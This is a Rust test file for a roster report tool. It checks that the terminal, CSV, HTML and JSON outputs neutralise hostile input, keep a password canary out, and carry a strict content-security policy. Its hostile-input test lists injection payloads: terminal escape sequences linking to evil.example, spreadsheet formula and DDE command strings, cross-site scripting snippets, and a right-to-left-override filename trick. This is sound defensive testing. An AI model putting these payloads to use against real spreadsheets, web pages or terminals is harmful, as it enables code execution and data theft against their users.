use proptest::prelude::*;
use sha2::Digest;
use sha2::Sha256;

use super::*;
use crate::report::sample::CANARY;
use crate::roster::account::Person;
use crate::roster::outcome::LetterOutcome;
use crate::roster::plan::Named;
use crate::roster::plan::Subject as Who;
use crate::roster::problem::Problem;
use crate::roster::problem::ProblemKind;

/// One person whose every text is `text`, in a plan and an ending that say `text` wherever they can.
fn hostile(text: &str) -> (Plan, ItemResult) {
    let mut plan = plan();
    plan.items.truncate(1);
    plan.accounts[0] = account(2, text, text, text, text);
    plan.items[0] = item(2, Status::New, 0, create(&[text]));
    plan.items[0].problems = [Problem::warning(Some(text), ProblemKind::Other(text.to_owned()))].into();
    plan.notices[0].column = Some(text.into());
    plan.notices[0].text = text.to_owned();
    plan.items.push(Item {
        line: None,
        status: Status::Old,
        subject: Who::Named(Box::new(Named { username: text.into(), person: Person::new(text, text, text) })),
        entry: None,
        intent: Intent::Report,
        problems: Box::default(),
    });
    let result = ItemResult {
        outcome: Outcome::Failed(text.to_owned()),
        letter: LetterOutcome::Failed,
        notes: vec![text.to_owned()],
        incomplete: false,
    };
    (plan, result)
}

struct Forms {
    terminal: [String; 2],
    csv: [String; 2],
    html: [String; 2],
    json: [String; 2],
}

fn all_forms(plan: &Plan, results: &[ItemResult], words: &str) -> Forms {
    let form = form();
    let remarks = [Remark::OtherServer(words.to_owned())];
    let subject = Subject { feed: words, roster: words, remarks: &remarks, ..subject(plan, &form) };
    let ending = Ending { run: words, ended_early: Some(words), ..ending(plan, results) };
    Forms {
        terminal: [
            written(|out| preview_table(&subject, &Look::default(), out)),
            written(|out| result_lines(&subject, &ending, Rows::All, out)),
        ],
        csv: [written(|out| preview_csv(&subject, out)), written(|out| result_csv(&subject, &ending, out))],
        html: [written(|out| preview_html(&subject, out)), written(|out| result_html(&subject, &ending, out))],
        json: [written(|out| preview_json(&subject, out)), written(|out| result_json(&subject, &ending, out))],
    }
}

/// The tags of a page, without their text.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap()).collect()
}

fn check_harmless(text: &str) {
    let (plan, result) = hostile(text);
    let results = [result.clone(), result];
    let forms = all_forms(&plan, &results, text);
    for shown in &forms.terminal {
        assert!(!shown.chars().any(|c| c.is_control() && c != '\n'), "{shown:?}");
    }
    for file in &forms.csv {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(file.as_bytes());
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1 + plan.items.len(), "one line per person: {file:?}");
        assert_eq!(file.matches("\r\n").count(), records.len());
        for cell in records.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']), "{cell:?}");
        }
    }
    let (tame_plan, tame_result) = hostile("ada");
    let tame = all_forms(&tame_plan, &[tame_result.clone(), tame_result], "ada");
    for (page, tame) in forms.html.iter().zip(&tame.html) {
        assert_eq!(tags(page), tags(tame), "no element or attribute comes from a value");
    }
    for document in &forms.json {
        assert!(!document.chars().any(|c| c.is_control() && c != '\n'), "{document:?}");
        let document: serde_json::Value = serde_json::from_str(document).unwrap();
        assert_eq!(document["feed"], text);
        assert_eq!(document["items"][0]["username"], text);
    }
}

#[test]
fn hostile_text_is_only_text() {
    for text in [
        "\u{1b}[31mred\u{1b}]8;;http://evil.example\u{7}",
        "a\nb\r\nc\td\0e",
        "\u{9b}2J\u{202e}gpj.exe",
        "=HYPERLINK(\"http://evil.example?\"&A1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\u{feff}+1",
        "x,\"=1\"",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "</style><script>alert(1)</script>",
        "</title></td></table><h1>",
        "&lt;b&gt;&amp;",
        "{{ 7 * 7 }}",
        "\\\",\"status\":\"new",
        "\u{2028}\u{2029}\u{e0041}",
    ] {
        check_harmless(text);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn any_text_is_only_text(text in "[\\x00-\\x1f<>&\"'=+@,;a\u{9b}\u{202e}\u{feff}-]{1,12}|\\PC{1,12}") {
        check_harmless(&text);
    }
}

#[test]
fn no_form_ever_holds_a_password() {
    let (plan, results) = (plan(), results());
    assert!(plan.accounts.iter().all(|account| account.password.as_ref().unwrap().expose() == CANARY));
    let Forms { terminal, csv, html, json } = all_forms(&plan, &results, "hr");
    for shown in [terminal, csv, html, json].iter().flatten() {
        assert!(shown.contains("User1"));
        assert!(!shown.contains("canary"), "{shown}");
    }
}

#[test]
fn a_page_trusts_nothing_but_its_own_style() {
    let (plan, form) = (plan(), form());
    let page = written(|out| preview_html(&subject(&plan, &form), out));
    assert!(
        page.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-")
    );
    assert!(
        !page.contains("<script") && !page.contains("http:") && !page.contains("https:") && !page.contains("unsafe")
    );
}

/// Decodes base64 (RFC 4648 section 4).
fn base64_octets(text: &str) -> Vec<u8> {
    let alphabet = ('A'..='Z').chain('a'..='z').chain('0'..='9').chain(['+', '/']);
    let alphabet: Vec<char> = alphabet.collect();
    let digit = |c| alphabet.iter().position(|known| *known == c).unwrap();
    let bits = text.trim_end_matches('=').chars().map(|c| format!("{:06b}", digit(c))).collect::<String>();
    bits.as_bytes()
        .chunks_exact(8)
        .map(|octet| u8::from_str_radix(std::str::from_utf8(octet).unwrap(), 2).unwrap())
        .collect()
}

#[test]
fn the_policy_names_the_style_that_is_there() {
    let (plan, form) = (plan(), form());
    let page = written(|out| preview_html(&subject(&plan, &form), out));
    let (_, hash) = page.split_once("'sha256-").unwrap();
    let (_, style) = page.split_once("<style>").unwrap();
    let style = style.split("</style>").next().unwrap();
    assert_eq!(base64_octets(hash.split('\'').next().unwrap()), Sha256::digest(style).to_vec());
}

#[test]
fn every_kind_of_person_can_be_filtered() {
    let (plan, form, mut results) = (plan(), form(), results());
    let others = [Outcome::Enabled, Outcome::Disabled, Outcome::Deleted, Outcome::Failed("x".into())];
    let pages = [
        written(|out| preview_html(&subject(&plan, &form), out)),
        written(|out| result_html(&subject(&plan, &form), &ending(&plan, &results), out)),
        written(|out| {
            results.iter_mut().zip(others).for_each(|(result, other)| result.outcome = other);
            result_html(&subject(&plan, &form), &ending(&plan, &results), out)
        }),
    ];
    for page in pages {
        for row in page.split("<tr class=\"").skip(1) {
            let class = row.split('"').next().unwrap();
            assert!(page.contains(&format!("<input type=\"radio\" name=\"show\" id=\"{class}\">")), "{class}");
            assert!(page.contains(&format!("#{class}:checked~table tbody tr:not(.{class})")), "{class}");
        }
    }
}
